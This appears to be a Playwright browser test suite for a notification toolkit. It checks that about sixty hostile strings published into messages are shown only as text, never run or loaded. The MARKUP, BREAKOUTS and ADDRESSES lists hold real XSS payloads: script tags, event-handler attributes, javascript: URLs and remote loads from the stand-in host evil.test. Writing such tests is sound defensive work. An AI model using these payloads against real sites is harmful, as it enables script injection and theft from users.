"""Sixty hostile texts in every field of a message: none is run, none is loaded, each is shown as the text it is."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import SignIn, Toolkit
from tests.browser.toolkit_page import STRICT
from tests.processes import Hermes

pytestmark = pytest.mark.browser
# Each would call `owned` or load something from evil.test, if anything took it for more than text.
MARKUP = [
    "<script>owned()</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "</script><script>owned()</script>",
    "</title><script>owned()</script>",
    "</textarea><script>owned()</script>",
    "<img src=x onerror=owned()>",
    "<img src=//evil.test/x.png>",
    "<img srcset='//evil.test/x.png 1x'>",
    "<img src=`x`onerror=owned()>",
    '<img src="x" onerror="owned()" //',
    "<img/src/onerror=owned()>",
    "<IMG SRC=&#106;avascript:owned()>",
    "<svg onload=owned()>",
    "<svg><script>owned()</script></svg>",
    "<svg><animate onbegin=owned() attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=owned()>#x'/></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=owned()>",
    "<noscript><p title='</noscript><img src=x onerror=owned()>'>",
    "<iframe src=javascript:parent.owned()></iframe>",
    '<iframe srcdoc="<script>parent.owned()</script>"></iframe>',
    "<object data=//evil.test/x.swf></object>",
    "<embed src=//evil.test/x.swf>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css'; *{background:url(//evil.test/y)}</style>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<video><source onerror=owned()></video>",
    "<audio src=//evil.test/x.ogg autoplay>",
    "<body onload=owned()>",
    "<details open ontoggle=owned()>",
    "<input autofocus onfocus=owned()>",
    "<marquee onstart=owned()>",
    "<a href=javascript:owned()>x</a>",
    "<form action=javascript:owned()><button autofocus>x</button></form>",
    "<template><script>owned()</script></template>",
    "<x-element onclick=owned() style=position:fixed;inset:0>",
]
BREAKOUTS = [
    '"><img src=x onerror=owned()>',
    "'><img src=x onerror=owned()>",
    "`><img src=x onerror=owned()>",
    "--><img src=x onerror=owned()>",
    "]]><img src=x onerror=owned()>",
    '" onmouseover="owned()" x="',
    "' autofocus onfocus='owned()",
    "*/owned()/*",
    "');owned();//",
    "${owned()}",
    "{{constructor.constructor('owned()')()}}",
    "\u2028owned()\u2029",
    "&lt;img src=x onerror=owned()&gt;",
    "\\u003cimg src=x onerror=owned()\\u003e",
    "url(//evil.test/z)",
]
ADDRESSES = [
    "javascript:owned()",
    " javascript:owned()",
    "JaVaScRiPt:owned()",
    "java\nscript:owned()",
    "\x01javascript:owned()",
    "javascript://evil.test/%0aowned()",
    "data:text/html,<script>parent.owned()</script>",
    "vbscript:owned()",
    "//evil.test/x",
]
PAYLOADS = [*MARKUP, *BREAKOUTS, *ADDRESSES]
NAMES = {"script", "img", "iframe", "object", "embed", "link", "style", "base", "meta", "video", "audio", "form", "svg"}


def message(payload: str) -> dict[str, Any]:
    """A message with the payload wherever it takes something."""
    action = {"label": payload, "link": payload, "name": payload, "onclick": payload, payload: payload}
    content = {
        **dict.fromkeys(("title", "text", "link", "link_text", "icon", "look", "lasts_ms", "draw"), payload),
        "actions": [action, {"label": payload, "name": payload}],
        payload: payload,
    }
    return {"type": "danger", "data": content, payload: payload}


def everywhere(payload: str) -> list[Any]:
    """The same in every shape that a message can have."""
    plain = {"title": [payload], "text": {payload: payload}, "actions": payload}
    return [
        message(payload),
        {"type": "custom", "data": payload},
        {"type": "info", "data": plain},
        {"type": payload, "data": payload},
        {"type": "success", "data": {payload: payload}},
        payload,
        [payload],
    ]


def watch(page: Page) -> list[str]:
    """Return a list of what was loaded from elsewhere and of dialogs, from now on; `owned` is counted in the page."""
    seen: list[str] = []
    page.on("request", lambda request: seen.append(request.url) if "evil.test" in request.url else None)
    page.on("dialog", lambda dialog: (seen.append(dialog.message), dialog.dismiss()))
    page.evaluate(
        """() => {
            window.calls = 0;
            window.owned = () => { calls += 1; };
            addEventListener("securitypolicyviolation", ({blockedURI}) => { calls += 1; console.error(blockedURI); });
            window.elements = new Set();
            new MutationObserver((changes) => changes.forEach(({addedNodes}) => addedNodes.forEach((node) => {
                for (const each of [node, ...(node.querySelectorAll?.("*") ?? [])]) {
                    if (each.localName) elements.add(each.localName);
                    for (const {name} of each.attributes ?? []) if (/^on/.test(name)) elements.add(name);
                }
            }))).observe(document.documentElement, {childList: true, subtree: true});
        }"""
    )
    return seen


# One after the other, as a toast and in the list; and whatever can be chosen is chosen. Returns those that were shown.
SHOW_AND_CHOOSE = """async (all) => {
    const shown = [];
    for (const [payload, messages] of all) {
        toasts.clear();
        for (const message of messages) server.publish(message, {user_id: payload});
        server.publish(messages[0], {id: payload, room_id: payload});
        for (let n = 0; n < 2; n += 1) await new Promise(requestAnimationFrame);
        const titles = [...document.querySelectorAll(".hermes-toast__title")].map(({textContent}) => textContent);
        if (titles.includes(payload)) shown.push(payload);
        for (const button of document.querySelectorAll(".hermes-toast__action:not([href])")) button.click();
        bell.open();
        await new Promise(requestAnimationFrame);
        bell.close();
    }
    return shown;
}"""


def judge(page: Page, seen: list[str]) -> None:
    page.evaluate("() => new Promise((done) => setTimeout(done, 100))")
    assert page.evaluate("() => calls") == 0
    assert seen == []
    made = set(page.evaluate("() => [...elements]"))
    assert made & NAMES == set()
    assert {name for name in made if name.startswith("on")} == set()
    assert page.evaluate(
        "() => [...document.querySelectorAll('[class^=hermes] a')].every(({href}) => /^https?:/.test(href))"
    )
    assert page.evaluate(
        "() => [...document.querySelectorAll('a[href^=http\\\\:]')].every(({host}) => host === location.host)"
    )


def test_there_are_sixty_of_them() -> None:
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("csp", ["", STRICT], ids=["no policy", "strict policy"])
def test_nothing_that_a_producer_writes_is_run_or_loaded(toolkit: Toolkit, csp: str) -> None:
    # Without a policy it is the toolkit alone that stands between the text and the page.
    page = toolkit(csp=csp, toasts={"limit": 9, "digestFrom": 99})
    seen = watch(page)
    shown = page.evaluate(SHOW_AND_CHOOSE, [[payload, everywhere(payload)] for payload in PAYLOADS])
    assert shown == PAYLOADS, "each was shown as the text it is"
    judge(page, seen)
    page.evaluate("() => bell.open()")
    for link in page.locator(".hermes-bell a").all():
        assert re.match(r"https://|http://app\.test/", link.get_attribute("href") or "")


def test_on_the_demo_page_hostile_messages_from_sqs_are_text(signed_in: SignIn, hermes: Hermes) -> None:
    page = signed_in("alice")
    page.evaluate("() => hermes.toasts.clear()")
    seen = watch(page)
    before = page.evaluate("() => hermes.position.seq")
    sent = [shape for payload in PAYLOADS if "\x01" not in payload for shape in everywhere(payload)]
    sent = [each for each in sent if len(json.dumps(each)) < 60_000]
    hermes.send_many("acme", sent)
    page.wait_for_function("(seq) => hermes.position.seq >= seq", arg=before + len(sent), timeout=60_000)
    page.evaluate("() => hermes.openList()")
    expect(page.locator(".hermes-bell__entry").first).to_be_visible()
    judge(page, seen)
